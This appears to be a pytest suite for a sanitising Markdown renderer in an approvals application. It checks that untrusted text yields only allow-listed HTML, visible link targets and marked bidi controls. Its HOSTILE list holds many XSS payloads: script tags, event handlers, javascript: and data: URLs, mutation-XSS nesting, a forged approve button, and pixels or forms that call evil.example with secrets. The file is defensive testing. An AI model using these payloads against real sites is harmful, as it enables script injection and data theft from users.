"""Markdown of strangers as HTML: nothing runs, nothing is loaded, nothing is hidden, nothing takes long."""

import re
import time
from contextlib import suppress
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from approvals import markdown
from approvals.markdown import MOST, NoMarkdown, TooLong, rendered

ALLOWED = {
    *("a", "bdi", "blockquote", "br", "code", "em", "hr", "li", "ol", "p", "pre", "s", "span", "strong", "ul"),
    *("table", "tbody", "td", "th", "thead", "tr"),
}
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png?secret=1">',
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    '<div hx-get="/accounts/logout/" hx-trigger="load">x</div>',
    '<button data-approve form="decide" name="verdict" value="approve">Approve</button>',
    '<form action="https://evil.example"><input name=password></form>',
    "<style>*{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<!-- --><script>alert(1)</script> -->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](blob:https://a/b) [x](filesystem:https://a/b) [x](file:///etc/passwd) [x](ftp://a/b) [x](view-source:https://a)",
    "[x](/accounts/logout/) [x](//evil.example) [x](?verdict=approve) [x](#main) [x]() [x](http:) [x](https:///x)",
    "<javascript:alert(1)> <data:text/html,x> <vbscript:x>",
    "![x](https://evil.example/pixel.png?secret=1)",
    "![x][1]\n\n[1]: https://evil.example/pixel.png",
    "[![x](https://evil.example/a.png)](https://evil.example/b)",
    "![a ![b](https://evil.example/b.png)](https://evil.example/a.png)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example "\\"><script>alert(1)</script>")',
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[x](<https://ok.example/'><script>alert(1)</script>>)",
    "[<script>alert(1)</script>](https://ok.example)",
    '![" onerror="alert(1)](x)',
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    </code></pre><script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|---|:-:|\n| [x](javascript:alert(1)) | <img src=x onerror=alert(1)> |",
    "> # <b onclick=alert(1)>x</b>\n> - <i>y</i>",
    "# Approved {: .btn .go onclick=alert(1) }",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "*a <b* c>** <script **alert(1)**",
    "[x]: https://evil.example '<script>alert(1)</script>'",
    "<<script>script>alert(1)<</script>/script>",
    "\u2028<script>alert(1)</script>\x00<img src=x>",
]


class _Read(HTMLParser):
    """What a browser would make of it, about."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def check(html: str) -> None:
    for tag, attributes in _Read(html).tags:
        assert tag in ALLOWED
        if tag == "a":
            assert re.match(r"(https?://[^/]|mailto:)", attributes.pop("href", "https://gone") or "")
            assert attributes.pop("rel") == "noopener noreferrer nofollow"
        if tag == "li":
            assert (attributes.pop("value", None) or "0").isdigit()
        assert attributes.pop("class", "to") in ("to", "ctl", "img", "head")
        assert attributes == {}


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_of_a_hostile_text_comes_through(text: str) -> None:
    check(rendered(text))
    check(rendered(f"- > {text}\n\n1. {text}\n\n{text}\n"))
    check(rendered("\n\n".join(HOSTILE[:20]) + text))


FRAGMENTS = st.sampled_from(
    [*HOSTILE, *"[]()!<>`*_|-#:&;\"'\\ \n\t", "https://a.example/", "\n\n", "    ", "1. ", "> "]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(FRAGMENTS, max_size=12).map("".join))
def test_nor_of_any_mixture_of_them(text: str) -> None:
    with suppress(TooLong, NoMarkdown):  # it is shown as it was written then
        check(rendered(text))


def test_what_is_left_for_the_allow_list_is_clean_without_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "_cleaned", lambda html: html)

    for text in HOSTILE:
        for tag, attributes in _Read(rendered(text)).tags:
            assert tag in ALLOWED
            assert set(attributes) <= {"href", "class", "value"}


@pytest.mark.parametrize("html", [text for text in HOSTILE if text.startswith("<")])
def test_the_allow_list_is_clean_without_what_is_before_it(html: str) -> None:
    check(markdown._cleaned(html))


def test_markdown_is_drawn() -> None:
    text = (
        "# Plan\n\nRefund **620 EUR**, *not* ~~1,240~~ `now`.\n\n- one\n- two\n\n> said\n\n|a|b|\n|-|-|\n|1|2|\n\n---\n"
    )

    html = rendered(text)

    assert html == (
        '<p class="head">Plan</p><p>Refund <strong>620 EUR</strong>, <em>not</em> <s>1,240</s> <code>now</code>.</p>'
        "<ul><li>one</li><li>two</li></ul><blockquote><p>said</p></blockquote>"
        "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table><hr>"
    )


def test_a_link_says_where_it_leads_whatever_its_words_are() -> None:
    html = rendered("[https://bank.example](https://evil.example/a?b=c) <https://ok.example/x>")

    assert '>https://bank.example</a> <span class="to">(https://evil.example/a?b=c)</span>' in html
    assert html.endswith(">https://ok.example/x</a></p>")


def test_letters_that_look_like_others_are_seen_in_an_address() -> None:
    assert '<span class="to">(https://xn--80ak6aa92e.com/)</span>' in rendered("[apple](https://аррӏе.com/)")


def test_an_image_is_its_description_and_its_address_and_no_image() -> None:
    html = rendered("![A chart](https://evil.example/pixel.png?secret=1)")

    assert html == (
        '<p><span class="img">Image: A chart</span>'
        ' <span class="to">(https://evil.example/pixel.png?secret=1)</span></p>'
    )
    assert len(rendered(f"![x](data:image/png;base64,{'A' * 9_000})")) < 1_000


@pytest.mark.parametrize(
    "text",
    [
        "a \u202egnp.exe",
        "a &#x202E;gnp.exe",
        "`a \u202e`",
        "```\na \u202e\n```",
        "[a\u202e](https://ok.example)",
        "![\u202e](x)",
        "| \u202e |\n|-|",
        "# \u202e",
        '[a](https://ok.example "\u202e")',
        "[\u202e]: https://ok.example",
        "```\u202e\nx\n```",
    ],
)
def test_characters_that_hide_or_reorder_are_marked_wherever_they_are(text: str) -> None:
    html = rendered(text)

    assert "\u202e" not in html
    assert '<span class="ctl">⟨U+202E⟩</span>' in html


def test_what_markdown_would_leave_out_is_shown() -> None:
    text = "1. a\n1. b\n7. c\n\n```python hidden\nx\n```\n"
    text += "\n[used](https://a.example 'title')\n\n[never]: /used 'by anyone'\n"

    shown = _Read(rendered(text))

    assert [attributes.get("value") for tag, attributes in shown.tags if tag == "li"] == ["1", "1", "7"]
    for word in ("python hidden", "“title”", "NEVER", "/used", "by anyone"):
        assert word in shown.text
    deep = "\n".join("  " * depth + f"- level {depth}" for depth in range(60))
    with pytest.raises(NoMarkdown):
        rendered(deep)


def test_ordinary_words_are_all_there() -> None:
    words = [f"word{number}" for number in range(400)]
    text = "\n".join(f"{'> ' * (number % 4)}{'- ' * (number % 3)}{word}" for number, word in enumerate(words))

    shown = _Read(rendered(text)).text

    assert [word for word in words if word not in shown] == []


@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "![",
        "*a_",
        "[](",
        "[a](<b",
        "a\n",
        "`",
        "<",
        "&amp;",
        "> ",
        "- a\n",
        "|",
        "# a\n",
        "a**b",
        "\\",
        "<a:",
        "\t",
    ],
)
def test_no_text_takes_long(piece: str) -> None:
    start = time.perf_counter()

    with suppress(TooLong, NoMarkdown):
        rendered((piece * MOST)[:MOST])

    assert time.perf_counter() - start < 4


def test_what_is_too_long_or_grows_too_long_says_so() -> None:
    with pytest.raises(TooLong, match="too long to be shown as Markdown"):
        rendered("a" * (MOST + 1))
    with pytest.raises(TooLong):
        rendered(f"[a]: https://e.example/{'x' * 20_000}\n\n" + "[a]" * 4_000)


def test_a_text_that_the_reader_of_markdown_fails_at_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "_written", lambda text: 1 // 0)

    with pytest.raises(NoMarkdown, match="as it was written"):
        rendered("a")
